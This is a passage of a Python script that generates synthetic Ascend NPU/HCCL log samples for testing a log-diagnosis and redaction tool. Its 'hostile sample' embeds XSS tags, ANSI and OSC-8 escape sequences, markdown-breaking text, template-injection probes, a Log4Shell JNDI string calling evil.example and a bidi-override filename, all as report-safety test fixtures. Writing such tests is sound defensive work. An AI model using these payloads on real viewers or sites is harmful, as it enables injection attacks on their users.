        f"deviceLogicId[{p.device}]",
        mark="eager_entry",
    )
    p.tick(10, 80)
    p.hccl(
        "debug",
        "DEBUG",
        "alltoallv_operator.cc:214",
        f"select algorithm [AlltoAllVCcu], algTag[{tag}_ccu], level0 mesh, engine[CCU]",
    )
    p.tick(10, 80)
    if reuse:  # never used by the samples: the eager op reuses nothing in either order
        p.hccl("debug", "DEBUG", "op_common.cc:1201", REUSE_TEXT.format(n=1))
    else:
        _ccu_create(p, f"{tag}_ccu", ctx_id)
    task = p.next_task(12)
    p.rt(
        "debug",
        "DEBUG",
        "ccu_task.cc:188",
        "LaunchCcuTask",
        f"stream_id=12, task_id={task}, ccu ctxId={ctx_id}, insStart=0, device_id={p.device}",
    )
    p.tick(10, 60)
    for _ in range(r.randint(5, 8)):
        p.hccl(
            "debug",
            "DEBUG",
            "alltoallv_ccu_executor.cc:" + str(r.choice([301, 344, 372])),
            f"rank[{p.rank}] -> rank[{r.randint(0, 1)}] count[{r.randint(1024, 65536)}] "
            f"offset[{r.randrange(0, 1 << 20, 512)}]",
        )
        p.tick(5, 60)
    p.hccl(
        "run",
        "INFO",
        "hccl_opbase_atrace_info.cc:88",
        f"Exit-HcclAlltoAllV: tag[{tag}], ret[0], take time [{r.randint(300, 1200)}]us",
    )
    p.tick(100, 800)


def phase_mc2(
    p: Proc, comm: Comm, reuse: bool, ctx_id: int, fault_stream: int, fault_task: int
) -> None:
    """The MC2 fused operator ``aclnnAlltoAllvQuantGroupedMatMul`` (npu_alltoallv_quant_gmm)."""
    p.app(
        "debug",
        "DEBUG",
        "npu_alltoallv_quant_gmm.cpp:npu_alltoallv_quant_gmm:97",
        "hcom group name hccl_world_group, ep world size 2",
    )
    p.tick()
    p.emit(
        "debug",
        "DEBUG",
        "OP",
        f"[alltoallv_quant_grouped_mat_mul.cpp:212]{p.tid} "
        f"{MC2_OP}GetWorkspaceSize: entry, gmm x [bfloat16][4096,7168], weight [int8][8,7168,2048]",
    )
    p.tick(20, 200)
    p.emit(
        "debug",
        "DEBUG",
        "OP",
        f"[mc2_tiling_utils.cpp:140]{p.tid} {MC2_OP}GetWorkspaceSize: "
        f"tiling done, epWorldSize[2], commAlg[ccu], tilingKey[1100]",
    )
    p.tick(20, 200)
    p.hccl(
        "debug",
        "DEBUG",
        "hccl_mc2_resource.cc:131",
        "HcclAllocComResourceByTiling: group[hccl_world_group], opType[AlltoAllV], "
        "algConfig[AlltoAll=level0:ccu]",
    )
    p.tick(10, 80)
    if reuse:
        p.hccl("debug", "DEBUG", "op_common.cc:1201", REUSE_TEXT.format(n=1), mark="reuse")
    else:
        _ccu_create(p, f"AlltoAllVQuantGmm_{comm.ident}_ccu", ctx_id)
    p.tick(10, 80)
    p.hccl(
        "debug",
        "DEBUG",
        "hccl_mc2_resource.cc:176",
        f"mc2 context ready, group[hccl_world_group], ctxId[{ctx_id}], "
        f"windowSize[{200 * 1024 * 1024}]",
    )
    p.tick(10, 80)
    p.emit(
        "debug",
        "DEBUG",
        "OP",
        f"[alltoallv_quant_grouped_mat_mul.cpp:305]{p.tid} "
        f"{MC2_OP}: launch kernel, workspace [{p.hexaddr()}], stream [{fault_stream}]",
    )
    p.tick(10, 80)
    p.task_ids[fault_stream] = fault_task - 1
    task = p.next_task(fault_stream)
    p.rt(
        "debug",
        "DEBUG",
        "kernel_launch.cc:614",
        "LaunchKernel",
        f"stream_id={fault_stream}, task_id={task}, kernel_name={MC2_KERNEL}, block_dim=4, "
        f"args_size=352, schedule_mode=1",
        mark="mc2_launch",
    )
    p.tick(10, 60)
    p.rt(
        "debug",
        "DEBUG",
        "stream.cc:2250",
        "SubmitTask",
        f"stream_id={fault_stream}, task_id={task}, task_type=20(fusion), sq_tail={task}",
    )
    p.tick(50, 400)


def phase_fault(p: Proc, serial: int, stream: int, task: int, cores: list[tuple[str, str]]) -> None:
    """The fused kernel's CCU/aicore fault as RUNTIME logs it, then the failed synchronize."""
    d = p.device
    src_ccu = "ccu_device_error_proc.cc"
    p.rt(
        "debug",
        "ERROR",
        "stars_engine.cc:1602",
        "ProcLogicCqReport",
        f"Task run failed, device_id={d}, stream_id={stream}, task_id={task}, sqe_type=20(fusion), "
        f"errType=0x1(task exception), sqSwStatus=0",
        mark="fault_first",
    )
    p.tick(20, 90)
    p.rt(
        "debug",
        "ERROR",
        f"{src_ccu}:208",
        "ProcessCcuErrorInfo",
        "report error module_type=5, module_name=EZ9999",
    )
    p.tick(2, 9)
    p.rt(
        "debug",
        "ERROR",
        f"{src_ccu}:208",
        "ProcessCcuErrorInfo",
        FUSION_FAULT_TEXT.format(chip=d, serial=serial, stream=stream, task=task),
        mark="fusion_fault",
    )
    p.tick(5, 30)
    p.rt(
        "debug",
        "ERROR",
        f"{src_ccu}:341",
        "PrintCcuTaskInfo",
        CCU_PRINT_TEXT.format(stream=stream, task=task),
        mark="ccu_print",
    )
    p.tick(5, 30)
    for core, (l1, mte) in enumerate(cores):
        p.rt(
            "debug",
            "ERROR",
            "device_error_core_proc.cc:1071",
            "ProcessFusionCoreErrorInfo",
            "report error module_type=5, module_name=EZ9999",
        )
        p.tick(2, 9)
        p.rt(
            "debug",
            "ERROR",
            "device_error_core_proc.cc:1071",
            "ProcessFusionCoreErrorInfo",
            AICORE_TEXT.format(core=core, l1=l1, mte=mte),
            mark=f"aicore_{core}",
        )
        p.tick(5, 30)
    p.rt(
        "debug",
        "ERROR",
        "stream.cc:3302",
        "EnterFailureAbort",
        f"stream_id={stream} enter failure abort.",
    )
    p.tick(5, 30)
    p.rt(
        "debug",
        "ERROR",
        "fusion_task.cc:906",
        "PrintErrorInfoForFusionTask",
        f"Fusion kernel execute failed, device_id={d}, stream_id={stream}, "
        f"report_stream_id={stream}, "
        f"task_id={task}, flip_num=0, fault kernel_name={MC2_KERNEL}, fault kernel info ext=none, "
        f"program id=7, hash=14362775140192033091.",
        mark="kernel_name",
    )
    p.tick(5, 30)
    p.rt(
        "debug",
        "ERROR",
        "fusion_task.cc:941",
        "PrintErrorInfoForFusionTask",
        "[AIC_INFO] args(0 to 12) after execute:"
        + ", ".join(p.hexaddr() for _ in range(8))
        + ", 0x2, 0x1c00, 0x800, 0x4,  ",
    )
    p.tick(5, 30)
    p.rt(
        "debug",
        "ERROR",
        "fusion_task.cc:958",
        "PrintErrorInfoForFusionTask",
        "[AIC_INFO] after execute:args print end",
    )
    p.tick(40, 300)
    p.idedd(
        "debug",
        "ERROR",
        "dump_operator.cpp:402",
        f"[Dump][Exception] begin to load input tensor, index:0, kernel {MC2_KERNEL}",
    )
    p.tick(100, 600)
    p.idedd(
        "debug",
        "ERROR",
        "dump_manager.cpp:988",
        f"[Dump][Exception] dump exception to file, file: ./extra-info/data-dump/{d}/"
        f"exception_info.{stream}.{task}.{p.t.strftime('%H%M%S')}{p.t.microsecond:06d}",
    )
    p.tick(500, 3000)
    p.rt(
        "debug",
        "ERROR",
        "stream.cc:1181",
        "GetError",
        f"Stream Synchronize failed, stream_id={stream}, retCode=0x227, [ccu exception].",
    )
    p.tick(5, 30)
    p.rt(
        "debug",
        "ERROR",
        "api_error.cc:117",
        "DeviceSynchronize",
        "Call rtDeviceSynchronizeWithTimeout(-1) fail, ErrCode=507916, desc=[ccu exception], "
        "InnerCode=0x7150227",
        mark="errcode",
    )
    p.tick(5, 30)
    p.acl(
        "ASCENDCL",
        "debug",
        "ERROR",
        "device.cpp:187",
        "aclrtSynchronizeDeviceWithTimeoutImpl",
        " synchronize device failed, runtime result = 507916",
    )
    p.tick(300, 1500)


def stdout_fault_tail(
    p: Proc,
    serial: int,
    stream: int,
    task: int,
    cores: list[tuple[str, str]],
    long_form: bool,
    script: str,
) -> None:
    """torch_npu's view of the failure: traceback, PTA code line, error-manager block."""
    site = "/usr/local/python3.10.14/lib/python3.10/site-packages"
    p.out("Traceback (most recent call last):")
    p.out(f'  File "{script}", line 131, in <module>')
    p.out("    main()")
    p.out(f'  File "{script}", line 122, in main')
    p.out("    torch.npu.synchronize()")
    p.out(f'  File "{site}/torch_npu/npu/utils.py", line 61, in synchronize')
    p.out("    return torch_npu._C._npu_synchronize()")
    p.out(STDOUT_SYNC_ERROR_LONG if long_form else STDOUT_SYNC_ERROR, mark="stdout_error")
    p.out(
        f"[ERROR] {short_ts(p.t)} (PID:{p.pid}, Device:{p.device}, RankID:{p.rank}) "
        "ERR00100 PTA call acl api failed",
        mark="stdout_pta",
    )
    p.out("EZ9999: Inner Error!")
    p.out(
        f"EZ9999[PID: {p.pid}] {log_ts(p.t)} (EZ9999):  "
        + FUSION_FAULT_TEXT.format(chip=p.device, serial=serial, stream=stream, task=task)
        + "[FUNC:ProcessCcuErrorInfo][FILE:ccu_device_error_proc.cc][LINE:208]"
    )
    p.out("        TraceBack (most recent call last):")
    p.out(
        "       "
        + CCU_PRINT_TEXT.format(stream=stream, task=task)
        + "[FUNC:PrintCcuTaskInfo][FILE:ccu_device_error_proc.cc][LINE:341]"
    )
    for core, (l1, mte) in enumerate(cores):
        p.out(
            "       "
            + AICORE_TEXT.format(core=core, l1=l1, mte=mte)
            + "[FUNC:ProcessFusionCoreErrorInfo][FILE:device_error_core_proc.cc][LINE:1071]"
        )
    p.out(
        "       rtDeviceSynchronizeWithTimeout execute failed, reason=[ccu exception]"
        "[FUNC:FuncErrorReason][FILE:error_message_manage.cc][LINE:53]"
    )
    p.out(
        "       wait for compute device to finish failed, runtime result = 507916."
        "[FUNC:ReportCallError][FILE:log_inner.cpp][LINE:161]"
    )
    p.out("")


RESOURCES = ["STREAM", "EVENT", "MEMORY", "DATA_BUFFER", "TENSOR_DESC", "OP_ATTR"]


def phase_shutdown(p: Proc, failed: bool) -> None:
    r = p.rng
    if failed:
        p.app(
            "debug",
            "ERROR",
            "InitNpuBindings.cpp:THPModule_npu_shutdown:84",
            "NPU shutdown synchronize device failed.",
        )
        p.tick(100, 900)
    else:
        p.hccl(
            "run",
            "INFO",
            "op_base.cc:1862",
            f"Entry-HcclCommDestroy: comm[hccl_world_group], deviceLogicId[{p.device}]",
        )
        p.tick(2000, 9000)
        p.hccl(
            "debug",
            "INFO",
            "ccu_context_manager.cc:330",
            "[CcuCtxMgr] release all ccu contexts, count[2]",
        )
        p.tick()
        p.hccl(
            "run",
            "INFO",
            "op_base.cc:1897",
            f"[HCCL_TRACE]HcclCommDestroy success, take time [{r.randint(3000, 30000)}]us",
        )
        p.tick(500, 4000)
    for i in range(12):
        p.acl(
            "ASCENDCL",
            "debug",
            "INFO",
            "resource_statistics.cpp:109",
            "PrintStatistics",
            f" resource [{RESOURCES[i % 6]}"
            f"{'' if i < 6 else '_ASYNC'}] create {r.randint(0, 300)}, destroy {r.randint(0, 300)}",
        )
        p.tick(5, 60)
    p.tune(
        "debug",
        "INFO",
        "cann_kb_pyfunc_mgr.cpp:131",
        "CannKbPyfuncMgr: release python object, ref 1",
    )
    p.tick()
    p.rt("run", "INFO", "runtime.cc:1612", "~Runtime", "runtime deconstruct begin")
    p.tick(1000, 9000)
    p.drv(
        "debug",
        "INFO",
        "svm_mem_statistics.c:160",
        "devmm",
        "svm_mem_stats_show",
        f"MEM_DEV_HUGE_P2P_HBM dev{p.device} peak_size:{r.randint(2, 60) * 2097152}Bytes",
    )
    p.tick()
    p.tdt(
        "run",
        "INFO",
        "stub_process_mode.cpp:152",
        "CloseInHost",
        f"close device process, deviceid[{p.device}]",
    )
    p.tick()
    p.emit("run", "EVENT", "RUNTIME", f"[device.cc:702] {p.tid} Close: device_id={p.device} closed")
    p.ccecpu(
        "dev_run",
        "INFO",
        "aicpusd_interface.cpp:141",
        "Exit",
        f"aicpu scheduler exit, hostPid={p.pid}",
    )


# --------------------------------------------------------------------------- scenarios


@dataclass
class Scenario:
    name: str
    seed: int
    order: str  # "A": eager collective first, then MC2; "B": MC2 first
    debug_on: bool
    fault: bool
    base: datetime
    pids: tuple[int, int]
    devpids: tuple[int, int]
    compute_noise: int  # noise calls per rank between phases
    script: str
    long_error_form: bool = False
    # The scenario whose background noise this one replays (same seed, other call order): the
    # pair then differs only in the order of the steps and what follows from it.
    noise_of: str | None = None


def core_regs(rng: random.Random) -> list[tuple[str, str]]:
    return [(f"0x{rng.getrandbits(44):x}", f"0x{rng.getrandbits(64):016x}") for _ in range(4)]


def stamp_out(p: Proc, msg: str) -> None:
    """A line of the training script's own logging in the job stdout."""
    p.out(f"{p.t:%Y-%m-%d %H:%M:%S},{p.t.microsecond // 1000:03d} - repro - INFO - {msg}")


def rank_program(sc: Scenario, p: Proc, comm: Comm) -> Iterator[str]:
    """Simulate one rank; yields the name of each point where the ranks wait for each other."""
    env = "0" if sc.debug_on else ""
    stamp_out(
        p,
        f"launch rank {p.rank}/2 on npu:{p.device}, HCCL_ENTRY_LOG_ENABLE=1"
        + (f", ASCEND_GLOBAL_LOG_LEVEL={env}" if env else ""),
    )
    phase_startup(p, env)
    stamp_out(p, "torch_npu initialised, building inputs")
    p.out(
        f"[W{p.t.month}{p.t:%d %H:%M:%S}.{p.t.microsecond:06d}{p.rng.randint(100, 999)} "
        "NPUCachingAllocator.cpp:1341] Warning: expandable_segments not set, using the default "
        "block pool (function operator())"
    )
    noise(p, sc.compute_noise)
    # the communicator is created lazily by the first collective use of the process group
    phase_hccl_init(p, comm)
    yield "hccl-init"
    phase_hccl_init_done(p, comm)
    stamp_out(p, "process group hccl_world_group ready")
    noise(p, sc.compute_noise // 6)
    steps = ["eager", "mc2"] if sc.order == "A" else ["mc2", "eager"]
    for ctx_id, step in enumerate(steps, 3):
        yield f"before-{step}"
        if step == "eager":
            stamp_out(p, "step eager: dist.all_to_all_single")
            phase_eager_alltoall(p, comm, reuse=False, ctx_id=ctx_id)
        else:
            stamp_out(p, "step mc2: torch_npu.npu_alltoallv_quant_gmm")
            # order A: the lookup hits the context the eager collective created (ctxId 3)
            phase_mc2(
                p,
                comm,
                reuse=(sc.order == "A"),
                ctx_id=3 if sc.order == "A" else ctx_id,
                fault_stream=FAULT_STREAM,
                fault_task=FAULT_TASK,
            )
        noise(p, sc.compute_noise // 10)
    stamp_out(p, "torch.npu.synchronize()")
    yield "synchronize"
    if sc.fault:
        serial = 10 if p.rank == 0 else 14
        cores = core_regs(p.rng)
        if p.rank == 0 and sc.name == "ccu-reuse-before-mc2":
            cores[0] = ("0x5f95001fefd8", "0xfdbf7dfd087a9f5e")  # the values in the user's report
        phase_fault(p, serial, FAULT_STREAM, FAULT_TASK, cores)
        stdout_fault_tail(p, serial, FAULT_STREAM, FAULT_TASK, cores, sc.long_error_form, sc.script)
        phase_shutdown(p, failed=True)
    else:
        p.pause(40, 90)  # the rest of the step (no noise: the paired failing run has none here)
        stamp_out(p, f"a2a out checksum {p.rng.randint(10**8, 10**9)}, gmm out shape (4096, 2048)")
        phase_shutdown(p, failed=False)
        stamp_out(p, f"rank {p.rank} finished OK")


FAULT_STREAM, FAULT_TASK = 61, 90
# How long after the later rank reached each wait point each rank goes on (µs). At
# "synchronize" this is when the fault is logged: rank 0 first, rank 1 about 34 ms later.
RESUME_AFTER = {
    "hccl-init": (212, 1_377),
    "before-eager": (95, 3_120),
    "before-mc2": (1_402, 310),
    "synchronize": (1_846_205, 1_880_117),
}


def rank_files(p: Proc, stdout_name: str) -> dict[str, list[Line]]:
    """File path (relative to the sample root) -> lines, in the ascend-fd-like layout."""
    files: dict[str, list[Line]] = {}
    base = f"{p.root}/process_log"
    for dest, sub in (
        ("run", "run/plog/plog"),
        ("debug", "debug/plog/plog"),
        ("dev_run", f"run/device-{p.device}/device"),
        ("dev_debug", f"debug/device-{p.device}/device"),
    ):
        lines = getattr(p, dest)
        if lines:
            files[f"{base}/{sub}-{p.pid}_{file_ts(p.first[dest])}.log"] = lines
    files[f"{p.root}/{stdout_name}"] = p.stdout
    return files


def build_scenario(sc: Scenario, noise_of: list[Proc] | None = None
                   ) -> tuple[dict[str, list[Line]], list[Proc]]:
    """The files of one scenario, and its processes (whose noise states a paired scenario
    replays: ``noise_of``)."""
    comm_ts = int((sc.base - datetime(1970, 1, 1)).total_seconds()) - 8 * 3600
    comm = Comm(
        ident=f"172.16.40.7%eth0_60000_0_{comm_ts + 41}{sc.seed:06d}",
        host_ip="172.16.40.7",
        root_info_addr="0x7ffc3e91a2c0",
    )
    procs = [
        Proc(
            rng=random.Random(sc.seed * 100 + rank),
            t=sc.base + timedelta(microseconds=(0, 183_417)[rank]),
            pid=sc.pids[rank],
            pname="python3.10",
            rank=rank,
            device=rank,
            devpid=sc.devpids[rank],
            debug_on=sc.debug_on,
            root=f"rank_{rank}",
            noise_replay=noise_of[rank].noise_states if noise_of is not None else None,
        )
        for rank in (0, 1)
    ]
    programs = [rank_program(sc, p, comm) for p in procs]
    while True:
        points = [next(prog, None) for prog in programs]
        if points == [None, None]:
            break
        assert points[0] == points[1], points
        later = max(p.t for p in procs)
        for p, delay in zip(procs, RESUME_AFTER[points[0]], strict=True):
            p.t = later + timedelta(microseconds=delay)
    files: dict[str, list[Line]] = {}
    for p in procs:
        files.update(rank_files(p, f"train_rank{p.rank}.log"))
    return files, procs


# --------------------------------------------------------------------------- hostile sample


def build_hostile() -> dict[str, list[Line]]:
    """A small single-process tree whose ERROR records carry hostile text (report safety)."""
    rng = random.Random(4)
    p = Proc(
        rng=rng,
        t=datetime(2026, 3, 19, 9, 41, 7, 215_633),
        pid=40961,
        pname="python3.10",
        rank=0,
        device=0,
        devpid=5120,
        debug_on=True,
        root="",
    )
    esc = "\x1b"
    script_tag = "<script>alert(1)</script>"
    img_tag = '"><img src=x onerror=alert(1)>'
    p.atrace("run", "INFO", "trace_attr.c:176", "trace attr init done, wait time is 0ms.")
    p.tick(1000, 5000)
    p.hccl(
        "run",
        "INFO",
        "op_base.cc:420",
        "Entry-HcclCommInitRootInfoConfig:ranks[1], rank[0], rootinfo: host ip[127.0.0.1] "
        "port[60000] nicDeploy[1] identifier[127.0.0.1%lo_60000_0_1773884467215700], "
        "deviceLogicId[0]",
    )
    p.tick(1000, 5000)
    p.hccl("debug", "DEBUG", "hccl_communicator.cc:410", "Init communicator, rankSize[1]")
    p.tick(1000, 5000)
    p.hccl(
        "run",
        "INFO",
        "hccl_opbase_atrace_info.cc:61",
        f"Entry-HcclAlltoAllV: tag[AlltoAllV_{script_tag}], sendBuf[0x12c0a0000000], "
        "streamId[12], deviceLogicId[0]",
        mark="hostile_entry",
    )
    p.tick(100, 900)
    _ccu_create(p, "AlltoAllV_lo_ccu", 1)
    p.tick(10000, 50000)
    p.hccl("debug", "DEBUG", "op_common.cc:1201", REUSE_TEXT.format(n=1), mark="reuse")
    p.tick(1000, 9000)
    kernel = f"AlltoAllvGroupedMatMul_{script_tag}_mix_aic"
    p.rt(
        "debug",
        "ERROR",
        "stars_engine.cc:1602",
        "ProcLogicCqReport",
        "Task run failed, device_id=0, stream_id=61, task_id=90, sqe_type=20(fusion), "
        "errType=0x1(task exception), sqSwStatus=0",
    )
    p.tick(10, 50)
    p.rt(
        "debug",
        "ERROR",
        "ccu_device_error_proc.cc:208",
        "ProcessCcuErrorInfo",
        FUSION_FAULT_TEXT.format(chip=0, serial=3, stream=61, task=90),
        mark="fusion_fault",
    )
    p.tick(10, 50)
    p.rt(
        "debug",
        "ERROR",
        "device_error_core_proc.cc:1071",
        "ProcessFusionCoreErrorInfo",
        AICORE_TEXT.format(core=0, l1="0x1a2b3c4d5e6", mte="0x00000000deadbeef")
        + f" {script_tag} {img_tag}",
        mark="aicore_html",
    )
    p.tick(10, 50)
    p.rt(
        "debug",
        "ERROR",
        "device_error_core_proc.cc:1071",
        "ProcessFusionCoreErrorInfo",
        AICORE_TEXT.format(core=1, l1="0x1a2b3c4d5e7", mte="0x00000000deadbef0")
        + f" {esc}[31mRED{esc}[0m {esc}[2J{esc}[H {esc}]0;pwned{chr(7)} "
        f"{esc}]8;;https://evil.example/{esc}\\click here{esc}]8;;{esc}\\",
        mark="aicore_ansi",
    )
    p.tick(10, 50)
    p.rt(
        "debug",
        "ERROR",
        "fusion_task.cc:906",
        "PrintErrorInfoForFusionTask",
        "Fusion kernel execute failed, device_id=0, stream_id=61, report_stream_id=61, "
        f"task_id=90, flip_num=0, fault kernel_name={kernel}, fault kernel info ext=none, "
        "program id=1, hash=7.",
        mark="kernel_name",
    )
    p.tick(10, 50)
    p.rt(
        "debug",
        "ERROR",
        "api_error.cc:117",
        "DeviceSynchronize",
        "Call rtDeviceSynchronizeWithTimeout(-1) fail, ErrCode=507916, desc=[ccu exception "
        f"{img_tag}], InnerCode=0x7150227",
        mark="errcode",
    )
    p.tick(10, 50)
    p.app(
        "debug",
        "ERROR",
        "npu_alltoallv_gmm.cpp:npu_alltoallv_gmm:77",
        f"tensor name {script_tag} and {img_tag} rejected",
    )
    p.tick(10, 50)
    # markdown breakers: fences, table pipes, a heading, links and a remote image
    p.acl(
        "ASCENDCL",
        "debug",
        "ERROR",
        "op_exec.cpp:402",
        "aclopExecute",
        " op failed: ``` | a | b |\\n|---|---| `inline` ~~x~~ **bold** "
        "[click](javascript:alert(1)) ![x](https://evil.example/pixel.png) </code></pre>",
        mark="markdown_line",
        cont=(
            "```",
            "# injected heading",
            "| col1 | col2 |",
            "|------|------|",
            "| <b>x</b> | ![y](https://evil.example/y.png) |",
            "```html",
            "</details></summary>",
        ),
    )
    p.tick(10, 50)
    # template/format-string injection and a bidi override
    p.acl(
        "GE",
        "debug",
        "ERROR",
        "graph_exec.cc:88",
        "Execute",
        " graph {{7*7}} {% raw %}{{config}}{% endraw %} {0} {kernel} {__class__.__mro__} "
        "%s%s%n %x ${jndi:ldap://evil.example/a} \u202egnp.exe\u202c",
        mark="template_line",
    )
    p.tick(10, 50)
    # a record longer than the 1022-character CANN limit, payload at the very end
    args = ", ".join(f"0x{rng.getrandbits(48):x}" for _ in range(90))
    p.rt(
        "debug",
        "ERROR",
        "fusion_task.cc:941",
        "PrintErrorInfoForFusionTask",
        f"[AIC_INFO] args(0 to 90) after execute:{args}, {script_tag}",
        mark="long_line",
    )
    p.tick(10, 50)
    # a pname that is markup (pname allows anything but ')')
    p.emit(
        "debug",
        "ERROR",
        "IDEDD",
        f"[dump_operator.cpp:402][tid:{p.tid}] [Dump][Exception] "
        "begin to load input tensor, index:0",
    )
    p.debug[-1] = Line(
        p.debug[-1].text.replace("(40961,python3.10)", '(40961,"><b>pn</b>)'), "hostile_pname"
    )
    p.tick(1000, 5000)
    p.out("Traceback (most recent call last):")
    p.out('  File "/work/<script>alert(1)</script>/repro.py", line 12, in <module>')
    p.out("    torch.npu.synchronize()")
    p.out(
        f"RuntimeError: npuSynchronizeDevice: AclrtSynchronizeDeviceWithTimeout, error code is "
        f"507916 {img_tag}",
        mark="stdout_error",
    )
    p.out(
        f"[ERROR] {short_ts(p.t)} (PID:{p.pid}, Device:0, RankID:0) ERR00100 PTA call acl api "
        f"failed {script_tag}"
    )
    p.out(f"EZ9999: Inner Error! {esc}[1;31mbold red{esc}[0m")
    p.out("")
    files: dict[str, list[Line]] = {}
    for dest, sub in (("run", "run/plog/plog"), ("debug", "debug/plog/plog")):
        files[f"process_log/{sub}-{p.pid}_{file_ts(p.first[dest])}.log"] = getattr(p, dest)
    files["job_stdout.log"] = p.stdout
    return files


# --------------------------------------------------------------------------- two-host sample

# What the two-host sample's logs give away about the machines and people behind the job. A
# report of it made with --redact (and SECRET_PATTERN) must hold none of these.
TWO_HOSTS = {
    "host_ips": ("10.20.31.11", "10.20.31.12"),
    "device_ips": ("192.168.100.11", "192.168.100.12"),
    "ipv6": ("fd00:a:b::11", "fd00:a:b::12"),
    "dirs": ("worker-0", "worker-1"),
    "fqdns": ("node-a01.corp.example.com", "node-a02.corp.example.com"),
    "short_hosts": ("node-a01", "node-a02"),
    "user": "zhang.wei",
    "email": "zhang.wei@example-ai.com",
    "token": "hf_Q3xT9kLmN2pR7vW5yZ8aB4cD",
}
SECRET_PATTERN = r"hf_[A-Za-z0-9]{20,}"  # the --redact-pattern that covers the token
CANN_VERSION = "8.0.0.1"  # looks like an IPv4 address; redaction must keep it


def build_two_hosts() -> dict[str, list[Line]]:
    """Two hosts, one rank each: rank 1 runs out of device memory, rank 0 times out waiting for
    it (EI0002 naming rank 1's address). Every line that names a machine or a person does so
    the way real jobs do (host directories, FQDNs, server[...], home paths, e-mail, a token)."""
    h = TWO_HOSTS
    base = datetime(2026, 3, 20, 8, 14, 2, 118_204)
    files: dict[str, list[Line]] = {}
    for rank in (0, 1):
        p = Proc(rng=random.Random(60 + rank), t=base + timedelta(microseconds=rank * 91_337),
                 pid=51820 + rank * 7, pname="python3.9", rank=rank, device=rank,
                 devpid=7100 + rank, debug_on=False, root=f"{h['dirs'][rank]}/rank_{rank}")
        ip, dev_ip, ip6 = h["host_ips"][rank], h["device_ips"][rank], h["ipv6"][rank]
        ident = f"{h['host_ips'][0]}%ens3f0_60000_0_1773996842004411"
        p.out(f"[{p.t:%Y-%m-%d %H:%M:%S}] hostname: {h['fqdns'][rank]} rank {rank} of 2")
        p.out(f"wandb: Currently logged in as: {h['email']}")
        p.out(f"export HF_TOKEN={h['token']}")
        p.out(f"CANN version: {CANN_VERSION} (/usr/local/Ascend/ascend-toolkit/{CANN_VERSION})")
        p.tick(10_000, 20_000)
        p.emit("run", "INFO", "HCCL", f"[adapter_hccp.cc:211] [{p.tid}][HCCL_ENV] "
               f"HCCL_SOCKET_IFNAME=ens3f0, local address {ip}, ipv6 address {ip6}")
        p.tick(1000, 5000)
        p.hccl("run", "INFO", "op_base.cc:420",
               f"Entry-HcclCommInitRootInfoConfig:ranks[2], rank[{rank}], rootinfo: host "
               f"ip[{h['host_ips'][0]}] port[60000] nicDeploy[1] identifier[{ident}], "
               f"deviceLogicId[{rank}]")
        p.tick(1000, 5000)
        p.hccl("run", "INFO", "hccl_communicator.cc:602",
               f"rankInfo: server[{h['short_hosts'][rank]}%ens3f0], userRank[{rank}], "
               f"deviceIp[{dev_ip}], hostIp[{ip}]")
        p.pause(1_000_000, 1_800_000)
        if rank == 1:
            p.out("Traceback (most recent call last):")
            p.out(f'  File "/home/{h["user"]}/llm/train.py", line 211, in <module>')
            p.out("    loss = model(batch).loss")
            p.out(f'  File "/home/{h["user"]}/llm/modeling.py", line 88, in forward')
            p.out("    attn = torch.matmul(q, k.transpose(-1, -2))")
            p.out("RuntimeError: NPU out of memory. Tried to allocate 2.00 GiB (NPU 1; 60.96 "
                  "GiB total capacity; 58.31 GiB already allocated; 1.12 GiB free)",
                  mark="oom")
        else:
            p.pause(150_000, 170_000)
            p.out(f"[ERROR] {short_ts(p.t)} (PID:{p.pid}, Device:0, RankID:0) ERR02200 DIST "
                  "call hccl api failed.")
            p.out(f"EI0002: [PID: {p.pid}] {log_ts(p.t)} The wait execution of the Notify "
                  "register times out. Reason: The Notify register has not received the Notify "
                  "record from remote rank [1].base information: [streamID:[1073741830], "
                  f"taskID[19], tag[AllReduce_{ident}], AlgType(level 0-1-2):"
                  "[fullmesh-ring-ring].] task information: [", mark="ei0002")
            p.out("there are(is) 1 abnormal device(s):")
            p.out(f"    Cluster Exception Location[IP/ID]:[{h['host_ips'][1]}/1], Arrival "
                  f"Time:[Fri Mar 20 08:41:51 2026], Discoverer:[{h['host_ips'][0]}/0], "
                  "ExceptionType:[Heartbeat Lost Occurred], Possible Reason:1. Process has "
                  "exited, 2. Network Disconnected")
            p.out("]")
        for dest, sub in (("run", "run/plog/plog"),):
            files[f"{p.root}/process_log/{sub}-{p.pid}_{file_ts(p.first[dest])}.log"] = \
                getattr(p, dest)
        files[f"{p.root}/train_rank{rank}.log"] = p.stdout
    return files


# The founding case as its reporter pasted it into the report this project started from: one
# file, no module, pid or timestamp; the arrow and the Chinese notes are part of the paste. It
# is the reporter's own text, kept verbatim: a user pastes exactly this into a ticket.
PASTED_EXCERPT = (
    ("# Step A: eager all_to_all_single 正常完成", None),
    ("# HCCL plog 中可以看到资源被缓存：", None),
    ("[DEBUG] Already have context, skip create, ctxSize is xxx    ← op_common.cc:889 "
     "TryReuseResource 命中", "reuse (pasted DEBUG line)"),
    ("", None),
    ("# Step B: 融合算子执行时 aicore error", None),
    (STDOUT_SYNC_ERROR, "fault: RuntimeError 507916"),
    ("", None),
    ("[ERROR] The error from device(chipId=0, dieId=0), serial number is 10,",
     "fault: device report (9 lines)"),
    ("  exception occurred during fusion kernel task execution,", None),
    ("  streamId=61, taskId=90, subtasksSubType=20, sqeLength=4, cqeStatus=262144.", None),
    ("  ccu task print, coreNum=1, streamId=61, taskId=90.", None),
    ("", None),
    ("  there is an aicore error exception, core id is 0/1/2/3, error code = 0,", None),
    ("  l1 error info: 0x5f95001fefd8,", None),
    ("  mte error info: 0xfdbf7dfd087a9f5e,", None),
    ("  errcode:(0) errorstr: timeout or trap error. subErrType: 0x4.", None),
)
PASTED_FILE = "pasted.log"


def build_pasted() -> dict[str, list[Line]]:
    """The founding case as pasted: one file holding ``PASTED_EXCERPT``."""
    return {PASTED_FILE: [Line(text, mark) for text, mark in PASTED_EXCERPT]}


def sensitive_values(name: str) -> tuple[str, ...]:
    """What a sample's logs give away about its machines and people: a report made with
    ``--redact`` (and, for the two-host sample, ``--redact-pattern SECRET_PATTERN``) must hold
    none of these. Loopback addresses and version numbers are not sensitive."""
    if name == "notify-timeout-two-hosts":
        h = TWO_HOSTS
        return (*h["host_ips"], *h["device_ips"], *h["ipv6"], *h["dirs"], *h["fqdns"],
                *h["short_hosts"], f"/home/{h['user']}/", h["email"], h["token"])
    if name in ("hostile-text", "ccu-reuse-pasted"):
        return ()  # nothing in them names a machine or a person
    scenario = next(sc for sc in SCENARIOS if sc.name == name)
    home = scenario.script.rsplit("/", 2)[0] + "/"  # /home/<user>/, in a fault's traceback
